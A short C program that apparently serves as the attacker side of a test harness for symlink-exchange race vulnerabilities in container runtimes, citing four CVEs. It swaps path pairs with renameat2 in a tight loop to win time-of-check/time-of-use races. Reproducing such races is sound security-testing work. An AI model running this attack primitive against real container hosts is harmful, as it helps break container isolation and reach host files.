/* swapper A1 B1 [A2 B2 ...]: the attacker of the symlink-exchange races (CVE-2021-30465,
 * CVE-2024-45310, CVE-2019-19921, CVE-2025-31133). Exchanges each pair of paths with
 * renameat2(RENAME_EXCHANGE) in a tight loop, so each name is in turn a directory (or file) and
 * a symbolic link, until SIGTERM or SIGINT; then prints "swaps=N failures=F" on stdout. A pair
 * one of whose names is momentarily missing (the runtime replaced it) only counts a failure.
 * Prints "swapping" on stderr once it has started. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	unsigned long long swaps = 0, failures = 0;
	struct sigaction sa = {.sa_handler = on_signal};

	if (argc < 3 || argc % 2 != 1) {
		fprintf(stderr, "usage: swapper A1 B1 [A2 B2 ...]\n");
		return 2;
	}
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	fprintf(stderr, "swapping\n");
	while (!stop) {
		for (int i = 1; i + 1 < argc; i += 2) {
			if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) ==
			    0)
				swaps++;
			else
				failures++;
		}
	}
	printf("swaps=%llu failures=%llu\n", swaps, failures);
	return 0;
}
